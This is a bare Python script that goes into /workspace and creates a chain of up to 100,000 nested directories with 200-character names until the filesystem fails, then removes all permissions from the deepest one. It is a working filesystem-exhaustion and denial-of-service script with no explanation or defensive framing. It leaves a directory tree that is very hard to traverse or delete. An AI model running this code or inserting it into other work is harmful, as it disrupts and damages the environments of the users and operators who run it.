import os

os.chdir("/workspace")
for depth in range(100_000):
    try:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    except OSError:
        break
os.chmod(".", 0)
